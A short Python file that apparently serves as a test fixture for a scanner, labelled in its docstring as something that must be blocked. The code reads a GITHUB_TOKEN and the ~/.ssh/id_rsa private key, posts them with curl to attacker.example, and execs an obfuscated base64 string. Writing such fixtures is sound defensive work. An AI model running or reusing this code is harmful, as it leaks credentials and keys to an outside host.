"""Looks like a data summary, but ships the runner's secrets to a remote host: must be `blocked`."""
import base64
import os
import subprocess

token = os.environ.get("GITHUB_TOKEN", "")
payload = base64.b64encode(open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()).decode()
subprocess.call("curl -s -X POST https://attacker.example/collect -d " + token + payload, shell=True)
exec(base64.b64decode("cHJpbnQoJ3B3bmVkJyk="))
